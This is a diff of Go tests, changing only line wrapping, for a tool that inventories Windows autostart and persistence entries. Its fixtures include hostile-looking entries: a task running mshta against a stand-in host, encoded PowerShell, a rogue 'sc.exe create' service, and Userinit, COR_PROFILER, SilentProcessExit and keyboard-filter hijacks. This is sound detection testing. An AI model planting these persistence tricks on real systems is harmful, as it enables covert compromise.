@@ -36,43 +36,67 @@ func TestNothingHides(t *testing.T) {
 	const svchost = `%SystemRoot%\System32\svchost.exe -k netsvcs`
 	root := testkit.WindowsDisk(t, testkit.Keys{
 		nt: {sz("SystemRoot", `C:\Windows`)},
-		`Classes\CLSID\{00000000-0000-0000-0000-000000000001}\InprocServer32`: {sz("", `C:\Windows\System32\discan.dll`)},
+		`Classes\CLSID\{00000000-0000-0000-0000-000000000001}\InprocServer32`: {sz("",
+			`C:\Windows\System32\discan.dll`)},
 		`Classes\CLSID\{00000000-0000-0000-0000-000000000002}\InprocServer32`: {sz("", `C:\Tide\tide.dll`)},
 		nt + `\Drivers32`: {sz("msacm.good", "msadp32.acm"), sz("msacm.odd", "pallvox.acm")},
 	}, testkit.Keys{
-		ccs + `\Services\Schedule`: service(svchost), ccs + `\Services\Schedule\Parameters`: dll(`C:\Windows\System32\schedsvc.dll`),
-		ccs + `\Services\BITS`: service(svchost), ccs + `\Services\BITS\Parameters`: dll(`C:\Windows\System32\odd.dll`),
-		ccs + `\Services\Themes`: service(`C:\ProgramData\Zed\zed.exe`), ccs + `\Services\Themes\Parameters`: dll(`C:\Windows\System32\themeservice.dll`),
-		ccs + `\Services\Audiosrv`: service(`C:\Tide\svchost.exe -k netsvcs`), ccs + `\Services\Audiosrv\Parameters`: dll(`C:\Windows\System32\audiosrv.dll`),
-		ccs + `\Services\Spooler`: service(`C:\Windows\System32\spoolsv.exe`, sz("FailureCommand", `C:\Windows\System32\spoolsv.exe`),
-			regf.Value{Name: "FailureActions", Type: regf.Binary, Data: append(append(make([]byte, 12), 1, 0, 0, 0, 0, 0, 0, 0), 3, 0, 0, 0, 0, 0, 0, 0)}),
-		ccs + `\Services\Sense`:                    service(`"C:\Program Files\Windows Defender AdvancedX\MsSense.exe"`),
-		ccs + `\Services\Beep`:                     {dw("Type", 1), dw("Start", 1), sz("ImagePath", `System32\drivers\zeddrv.sys`)},
+		ccs + `\Services\Schedule`:            service(svchost),
+		ccs + `\Services\Schedule\Parameters`: dll(`C:\Windows\System32\schedsvc.dll`),
+		ccs + `\Services\BITS`:                service(svchost),
+		ccs + `\Services\BITS\Parameters`:     dll(`C:\Windows\System32\odd.dll`),
+		ccs + `\Services\Themes`:              service(`C:\ProgramData\Zed\zed.exe`),
+		ccs + `\Services\Themes\Parameters`:   dll(`C:\Windows\System32\themeservice.dll`),
+		ccs + `\Services\Audiosrv`:            service(`C:\Tide\svchost.exe -k netsvcs`),
+		ccs + `\Services\Audiosrv\Parameters`: dll(`C:\Windows\System32\audiosrv.dll`),
+		ccs + `\Services\Spooler`: service(`C:\Windows\System32\spoolsv.exe`,
+			sz("FailureCommand", `C:\Windows\System32\spoolsv.exe`),
+			regf.Value{Name: "FailureActions", Type: regf.Binary, Data: append(append(make([]byte, 12), 1, 0, 0, 0, 0,
+				0, 0, 0), 3, 0, 0, 0, 0, 0, 0, 0)}),
+		ccs + `\Services\Sense`: service(
+			`"C:\Program Files\Windows Defender AdvancedX\MsSense.exe"`),
+		ccs + `\Services\Beep`: {dw("Type", 1), dw("Start", 1),
+			sz("ImagePath", `System32\drivers\zeddrv.sys`)},
 		ccs + `\Services\Null`:                     {dw("Type", 1), dw("Start", 1)},
-		ccs + `\Control\SafeBoot\Minimal\Schedule`: {sz("", "Service")}, ccs + `\Control\SafeBoot\Minimal\BITS`: {sz("", "Service")},
+		ccs + `\Control\SafeBoot\Minimal\Schedule`: {sz("", "Service")}, ccs + `\Control\SafeBoot\Minimal\BITS`: {sz("",
+			"Service")},
 	}, nil, map[string]string{
-		tasks + `Defrag\ScheduledDefrag`:                  taskFile(exec(`%windir%\system32\defrag.exe`, "-c -h -k")),
-		tasks + `Data Integrity Scan\Data Integrity Scan`: taskFile(`<ComHandler><ClassId>{00000000-0000-0000-0000-000000000001}</ClassId></ComHandler>`),
-		tasks + `Time Synchronization\SynchronizeTime`:    taskFile(exec(`%windir%\system32\sc.exe`, "start w32time task_started")),
-		tasks + `Autochk\Proxy`:                           taskFile(exec(`%windir%\system32\rundll32.exe`, "/d acproxy.dll,PerformAutochkOperations")),
-		tasks + `WDI\ResolutionHost`:                      taskFile(`<ComHandler><ClassId>{00000000-0000-0000-0000-000000000002}</ClassId></ComHandler>`),
-		tasks + `USB\Usb-Notifications`:                   taskFile(`<ComHandler><ClassId>{00000000-0000-0000-0000-000000000003}</ClassId></ComHandler>`),
-		tasks + `Chkdsk\ProactiveScan`:                    taskFile(exec(`%windir%\system32\bcdboot.exe`, "") + exec(`C:\Tide\tide.exe`, "")),
-		tasks + `Feedback\Siuf\DmClient`:                  taskFile(exec("powershell.exe", "-enc SQBuAHYA")),
-		tasks + `Windows Error Reporting\QueueReporting`:  taskFile(exec(`C:\Windows\System32\odd.exe`, "")),
-		tasks + `Location\Notifications`:                  taskFile(exec("mshta.exe", "http://tide.example/a")),
-		tasks + `DiskCleanup\SilentCleanup`:               taskFile(exec(`%UNKNOWN%\cleanmgr.exe`, "")),
-		tasks + `UPnP\UPnPHostConfig`:                     taskFile(exec("sc.exe", "create tide binPath= C:\\Tide\\tide.exe")),
-		tasks + `Registry\RegIdleBackup`:                  taskFile("<SendEmail/>"),
-		tasks + `Windows Error Reporting\Other`:           taskFile(exec(`C:\Windows\System32\wermgr.exe`, "-upload")), // which is gone
-		tasks + `Device Information\Device`:               taskFile(exec("gone.exe", "")),
-		tasks + `Subscription\LicenseAcquisition`:         taskFile(exec("rundll32.exe", `shell32.dll,ShellExec_RunDLL C:\Tide\tide.exe`)),
-		tasks + `Tide\Tide`:                               taskFile(exec(`C:\Windows\System32\cmd.exe`, "/c whoami")),
-		`Windows\System32\svchost.exe`:                    "", `Windows\System32\schedsvc.dll`: "", `Windows\System32\odd.dll`: "", `Windows\System32\themeservice.dll`: "", `ProgramData\Zed\zed.exe`: "",
-		`Windows\System32\audiosrv.dll`: "", `Tide\svchost.exe`: "", `Windows\System32\spoolsv.exe`: "", `Program Files\Windows Defender AdvancedX\MsSense.exe`: "", `Windows\System32\drivers\zeddrv.sys`: "",
-		`Windows\System32\drivers\null.sys`: "", `Windows\System32\defrag.exe`: "", `Windows\System32\discan.dll`: "", `Tide\tide.dll`: "", `Tide\tide.exe`: "", `Windows\System32\bcdboot.exe`: "",
-		`Windows\System32\WindowsPowerShell\v1.0\powershell.exe`: "", `Windows\System32\odd.exe`: "", `Windows\System32\mshta.exe`: "", `Windows\System32\sc.exe`: "", `Windows\System32\rundll32.exe`: "",
-		`Windows\System32\acproxy.dll`: "", `Windows\System32\shell32.dll`: "", `Windows\System32\cmd.exe`: "", `Windows\System32\msadp32.acm`: "", `Windows\System32\pallvox.acm`: "",
+		tasks + `Defrag\ScheduledDefrag`: taskFile(exec(`%windir%\system32\defrag.exe`, "-c -h -k")),
+		tasks + `Data Integrity Scan\Data Integrity Scan`: taskFile(
+			`<ComHandler><ClassId>{00000000-0000-0000-0000-000000000001}</ClassId></ComHandler>`),
+		tasks + `Time Synchronization\SynchronizeTime`: taskFile(exec(`%windir%\system32\sc.exe`,
+			"start w32time task_started")),
+		tasks + `Autochk\Proxy`: taskFile(exec(`%windir%\system32\rundll32.exe`,
+			"/d acproxy.dll,PerformAutochkOperations")),
+		tasks + `WDI\ResolutionHost`: taskFile(
+			`<ComHandler><ClassId>{00000000-0000-0000-0000-000000000002}</ClassId></ComHandler>`),
+		tasks + `USB\Usb-Notifications`: taskFile(
+			`<ComHandler><ClassId>{00000000-0000-0000-0000-000000000003}</ClassId></ComHandler>`),
+		tasks + `Chkdsk\ProactiveScan`: taskFile(exec(`%windir%\system32\bcdboot.exe`, "") +
+			exec(`C:\Tide\tide.exe`, "")),
+		tasks + `Feedback\Siuf\DmClient`:                 taskFile(exec("powershell.exe", "-enc SQBuAHYA")),
+		tasks + `Windows Error Reporting\QueueReporting`: taskFile(exec(`C:\Windows\System32\odd.exe`, "")),
+		tasks + `Location\Notifications`:                 taskFile(exec("mshta.exe", "http://tide.example/a")),
+		tasks + `DiskCleanup\SilentCleanup`:              taskFile(exec(`%UNKNOWN%\cleanmgr.exe`, "")),
+		tasks + `UPnP\UPnPHostConfig`: taskFile(exec("sc.exe",
+			"create tide binPath= C:\\Tide\\tide.exe")),
+		tasks + `Registry\RegIdleBackup`: taskFile("<SendEmail/>"),
+		// which is gone
+		tasks + `Windows Error Reporting\Other`: taskFile(exec(`C:\Windows\System32\wermgr.exe`, "-upload")),
+		tasks + `Device Information\Device`:     taskFile(exec("gone.exe", "")),
+		tasks + `Subscription\LicenseAcquisition`: taskFile(exec("rundll32.exe",
+			`shell32.dll,ShellExec_RunDLL C:\Tide\tide.exe`)),
+		tasks + `Tide\Tide`:            taskFile(exec(`C:\Windows\System32\cmd.exe`, "/c whoami")),
+		`Windows\System32\svchost.exe`: "", `Windows\System32\schedsvc.dll`: "", `Windows\System32\odd.dll`: "",
+		`Windows\System32\themeservice.dll`: "", `ProgramData\Zed\zed.exe`: "",
+		`Windows\System32\audiosrv.dll`: "", `Tide\svchost.exe`: "", `Windows\System32\spoolsv.exe`: "",
+		`Program Files\Windows Defender AdvancedX\MsSense.exe`: "", `Windows\System32\drivers\zeddrv.sys`: "",
+		`Windows\System32\drivers\null.sys`: "", `Windows\System32\defrag.exe`: "", `Windows\System32\discan.dll`: "",
+		`Tide\tide.dll`: "", `Tide\tide.exe`: "", `Windows\System32\bcdboot.exe`: "",
+		`Windows\System32\WindowsPowerShell\v1.0\powershell.exe`: "", `Windows\System32\odd.exe`: "",
+		`Windows\System32\mshta.exe`: "", `Windows\System32\sc.exe`: "", `Windows\System32\rundll32.exe`: "",
+		`Windows\System32\acproxy.dll`: "", `Windows\System32\shell32.dll`: "", `Windows\System32\cmd.exe`: "",
+		`Windows\System32\msadp32.acm`: "", `Windows\System32\pallvox.acm`: "",
 	})
 	m, err := machine.Open(root)
 	require.NoError(t, err)
@@ -83,7 +107,8 @@ func TestNothingHides(t *testing.T) {
 			hidden = append(hidden, strings.TrimPrefix(item.Location, "windows.")+" "+item.Name)
 		}
 	}
-	require.ElementsMatch(t, []string{"services Schedule", "services Spooler", "drivers Null", "safe-boot Schedule", "tasks ScheduledDefrag", "tasks Data Integrity Scan", "tasks SynchronizeTime",
+	require.ElementsMatch(t, []string{"services Schedule", "services Spooler", "drivers Null", "safe-boot Schedule",
+		"tasks ScheduledDefrag", "tasks Data Integrity Scan", "tasks SynchronizeTime",
 		"tasks Proxy", "codecs msacm.good"}, hidden)
 }
 
@@ -113,30 +138,40 @@ func TestWhatDecides(t *testing.T) {
 		cv + `\RunServices`:          {sz("Old", `D:\Tide\tide.exe`)},
 		nt + `\Winlogon`:             {sz("Userinit", `D:\Windows\userinit.exe,D:\Tide\tide.exe,`)},
 		nt + `\Winlogon\Notify\n`:    {sz("DLLName", `D:\Tide\tide.dll`)},
-		`WOW6432Node\Classes`:        {{Name: "SymbolicLinkValue", Type: regf.Link, Data: windata.Encode(`\REGISTRY\MACHINE\SOFTWARE\Classes\WOW6432Node`)}},
+		`WOW6432Node\Classes`: {{Name: "SymbolicLinkValue", Type: regf.Link,
+			Data: windata.Encode(`\REGISTRY\MACHINE\SOFTWARE\Classes\WOW6432Node`)}},
 		`Classes\WOW6432Node\CLSID\{083863F1-70DE-11d0-BD40-00A0C911CE86}\Instance\{00000000-0000-0000-0000-00000000000A}`: {sz("CLSID", "{00000000-0000-0000-0000-00000000000A}"), sz("FriendlyName", "Narrow filter")},
 		`Classes\WOW6432Node\CLSID\{00000000-0000-0000-0000-00000000000A}\InprocServer32`:                                  {sz("", `D:\Tide\tide.dll`)},
-		`Classes\Protocols\Handler\tide`:                        {sz("CLSID", "{00000000-0000-0000-0000-00000000000A}")},
-		cache + `Tree\Known`:                                    {sz("Id", "{1}")},
-		cache + `Tree\Folder\Hidden`:                            {sz("Id", "{2}")},
-		cache + `Tasks\{2}`:                                     {sz("Path", `\Folder\Hidden`), cached(`D:\Tide\hidden.exe`)},
-		cache + `Tree\Empty`:                                    {sz("Id", "{3}")},
+		`Classes\Protocols\Handler\tide`: {sz("CLSID",
+			"{00000000-0000-0000-0000-00000000000A}")},
+		cache + `Tree\Known`:         {sz("Id", "{1}")},
+		cache + `Tree\Folder\Hidden`: {sz("Id", "{2}")},
+		cache + `Tasks\{2}`:          {sz("Path", `\Folder\Hidden`), cached(`D:\Tide\hidden.exe`)},
+		cache + `Tree\Empty`:         {sz("Id", "{3}")},
 		cache + `Tree\Microsoft\Windows\Defrag\ScheduledDefrag`: {sz("Id", "{4}")},
-		cache + `Tasks\{4}`:                                     {sz("Path", `\Microsoft\Windows\Defrag\ScheduledDefrag`), cached(`D:\Windows\System32\defrag.exe`)},
-		nt + `\SilentProcessExit\watch.exe`:                     {sz("MonitorProcess", `D:\Tide\tide.exe`), dw("ReportingMode", 1)},
-		nt + `\Image File Execution Options\watch.exe`:          {sz("GlobalFlag", "0x200")},
+		cache + `Tasks\{4}`: {sz("Path", `\Microsoft\Windows\Defrag\ScheduledDefrag`),
+			cached(`D:\Windows\System32\defrag.exe`)},
+		nt + `\SilentProcessExit\watch.exe`: {sz("MonitorProcess", `D:\Tide\tide.exe`),
+			dw("ReportingMode", 1)},
+		nt + `\Image File Execution Options\watch.exe`: {sz("GlobalFlag", "0x200")},
 	}, testkit.Keys{
-		ccs + `\Services\Failing`:                                     {dw("Type", 0x10), dw("Start", 3), sz("ImagePath", `D:\Tide\tide.exe`), sz("FailureCommand", `D:\Tide\tide.exe`)},
-		ccs + `\Services\tidefilter`:                                  {dw("Type", 1), dw("Start", 3)},
-		ccs + `\Control\Class\{4d36e96b-e325-11ce-bfc1-08002be10318}`: {sz("Class", "Keyboard"), {Name: "UpperFilters", Type: regf.MultiString, Data: windata.Encode("kbdclass\x00tidefilter\x00\x00")}},
-		ccs + `\Control\Session Manager\Environment`:                  {sz("COR_PROFILER", `D:\Tide\tide.dll`)},
-		ccs + `\Control\Session Manager`:                              {{Name: "BootExecute", Type: regf.MultiString, Data: windata.Encode("autocheck autochk /r \\??\\D:\x00\x00")}},
+		ccs + `\Services\Failing`: {dw("Type", 0x10), dw("Start", 3),
+			sz("ImagePath", `D:\Tide\tide.exe`), sz("FailureCommand", `D:\Tide\tide.exe`)},
+		ccs + `\Services\tidefilter`: {dw("Type", 1), dw("Start", 3)},
+		ccs + `\Control\Class\{4d36e96b-e325-11ce-bfc1-08002be10318}`: {sz("Class", "Keyboard"), {Name: "UpperFilters",
+			Type: regf.MultiString, Data: windata.Encode("kbdclass\x00tidefilter\x00\x00")}},
+		ccs + `\Control\Session Manager\Environment`: {sz("COR_PROFILER", `D:\Tide\tide.dll`)},
+		ccs + `\Control\Session Manager`: {{Name: "BootExecute", Type: regf.MultiString,
+			Data: windata.Encode("autocheck autochk /r \\??\\D:\x00\x00")}},
 	}, testkit.Keys{
 		`Control Panel\Desktop`: {sz("SCRNSAVE.EXE", `D:\Tide\tide.scr`), sz("ScreenSaveActive", "0")},
 	}, map[string]string{
-		`Windows\System32\Tasks\Known`: taskFile(exec(`D:\Tide\known.exe`, "")), `Windows\System32\Tasks\Unknown`: taskFile(exec(`D:\Tide\tide.exe`, "")),
-		`Tide\tide.exe`: "", `Tide\hidden.exe`: "", `Tide\known.exe`: "", `Tide\tide.dll`: "", `Tide\tide.scr`: "", `Windows\userinit.exe`: "",
-		`Windows\System32\autochk.exe`: "", `Windows\System32\defrag.exe`: "", `Windows\System32\drivers\tidefilter.sys`: "", `Windows\System32\drivers\kbdclass.sys`: "",
+		`Windows\System32\Tasks\Known`:   taskFile(exec(`D:\Tide\known.exe`, "")),
+		`Windows\System32\Tasks\Unknown`: taskFile(exec(`D:\Tide\tide.exe`, "")),
+		`Tide\tide.exe`:                  "", `Tide\hidden.exe`: "", `Tide\known.exe`: "", `Tide\tide.dll`: "",
+		`Tide\tide.scr`: "", `Windows\userinit.exe`: "",
+		`Windows\System32\autochk.exe`: "", `Windows\System32\defrag.exe`: "",
+		`Windows\System32\drivers\tidefilter.sys`: "", `Windows\System32\drivers\kbdclass.sys`: "",
 	})
 	m, err := machine.Open(root)
 	require.NoError(t, err)
@@ -145,20 +180,24 @@ func TestWhatDecides(t *testing.T) {
 	require.Empty(t, inv.Unread)
 	got := map[string]string{}
 	for _, item := range inv.Items {
-		line := string(item.State) + "|" + item.Mode + "|" + string(item.Switch) + "|" + strings.Join(item.Problems, " ")
+		line := string(item.State) + "|" + item.Mode + "|" + string(item.Switch) + "|" + strings.Join(item.Problems,
+			" ")
 		require.Empty(t, got[item.Location+" "+item.Name], item.Name)
 		got[item.Location+" "+item.Name] = line
 	}
 	for name, want := range map[string]string{
-		"windows.run Everyone's":                   "disabled|a policy of the machine turns all of them off (DisableLocalMachineRun)|report|ignored",
-		"windows.run-services Old":                 "disabled|only Windows 95 to Me read it|report|ignored",
-		"windows.winlogon n":                       "disabled|not read since Windows Vista|report|ignored",
-		"windows.winlogon userinit.exe":            "enabled||report|not-default impostor", // in the wrong folder, and the right one is not there
-		"windows.winlogon tide.exe":                "enabled||report|not-default",
-		"windows.codecs Narrow filter":             "enabled||park|",
-		"windows.open-commands tide":               "enabled|its class is not registered|report|",
-		"windows.tasks Known":                      "enabled||report|",
-		"windows.tasks Unknown":                    "disabled|not registered: the scheduler's cache lacks it|report|ignored",
+		"windows.run Everyone's": "disabled|a policy of the machine turns all of them off " +
+			"(DisableLocalMachineRun)|report|ignored",
+		"windows.run-services Old": "disabled|only Windows 95 to Me read it|report|ignored",
+		"windows.winlogon n":       "disabled|not read since Windows Vista|report|ignored",
+		// in the wrong folder, and the right one is not there
+		"windows.winlogon userinit.exe": "enabled||report|not-default impostor",
+		"windows.winlogon tide.exe":     "enabled||report|not-default",
+		"windows.codecs Narrow filter":  "enabled||park|",
+		"windows.open-commands tide":    "enabled|its class is not registered|report|",
+		"windows.tasks Known":           "enabled||report|",
+		"windows.tasks Unknown": "disabled|not registered: the scheduler's cache lacks " +
+			"it|report|ignored",
 		"windows.tasks Folder\\Hidden":             "enabled|its file is gone, the scheduler still has it|report|obscured",
 		"windows.tasks Empty":                      "disabled|the scheduler's cache has its name only|report|ignored",
 		"windows.image-options watch.exe":          "enabled||park|",
@@ -212,9 +251,12 @@ func TestScriptsOfPoliciesGoEverywhere(t *testing.T) {
 	const scripts = cv + `\Group Policy\Scripts\Startup\`
 	const state = cv + `\Group Policy\State\Machine\Scripts\Startup\`
 	root := testkit.WindowsDisk(t, testkit.Keys{
-		scripts + `0`: {sz("FileSysPath", `C:\Windows\System32\GroupPolicy\Machine`)}, scripts + `0\0`: {sz("Script", "open.cmd")}, state + `0\0`: {sz("Script", "open.cmd")},
-		scripts + `1`: {sz("FileSysPath", `\\firm\SysVol\Machine`)}, scripts + `1\0`: {sz("Script", "firm.cmd")}, state + `1\0`: {sz("Script", "firm.cmd")},
-	}, nil, nil, map[string]string{`Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini`: "[Startup]\n0CmdLine=open.cmd\n"})
+		scripts + `0`:   {sz("FileSysPath", `C:\Windows\System32\GroupPolicy\Machine`)},
+		scripts + `0\0`: {sz("Script", "open.cmd")}, state + `0\0`: {sz("Script", "open.cmd")},
+		scripts + `1`: {sz("FileSysPath", `\\firm\SysVol\Machine`)}, scripts + `1\0`: {sz("Script", "firm.cmd")},
+		state + `1\0`: {sz("Script", "firm.cmd")},
+	}, nil, nil, map[string]string{
+		`Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini`: "[Startup]\n0CmdLine=open.cmd\n"})
 	standing := func() (keys []string) {
 		for key := range testkit.ExportAll(t, root) {
 			if strings.HasSuffix(key, "\x00Script") {
